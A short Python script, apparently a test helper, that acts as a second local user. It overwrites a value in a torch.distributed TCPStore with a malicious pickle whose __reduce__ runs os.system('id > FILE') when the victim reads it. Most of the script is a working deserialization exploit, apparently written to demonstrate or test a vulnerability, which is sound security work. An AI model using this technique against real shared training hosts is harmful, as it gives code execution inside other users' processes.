"""Act as another user who changes an answer of rank 1 in the store: `attack_ranks.py FILE`, port on stdin.

It sends a pickle that touches FILE when it is read, and stays connected, which exposes the user.
"""

import os
import pickle
import pwd
import sys
import threading
from datetime import timedelta

import torch.distributed as dist

KEY = "hpctrain//0/devices/answer"


class Evil:
    """Touches a file when it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"id > {sys.argv[1]}",)


if os.geteuid() == 0:
    # Only now: other users may not be able to read the installation.
    nobody = pwd.getpwnam("nobody")
    os.setgroups([])
    os.setgid(nobody.pw_gid)
    os.setuid(nobody.pw_uid)
print("ready", flush=True)
port = int(sys.stdin.readline())
store = dist.TCPStore(
    "127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=60)
)
store.get(KEY)
store.set(KEY, pickle.dumps(Evil(), protocol=0).decode("ascii"))
print("sent", flush=True)
threading.Event().wait(600)
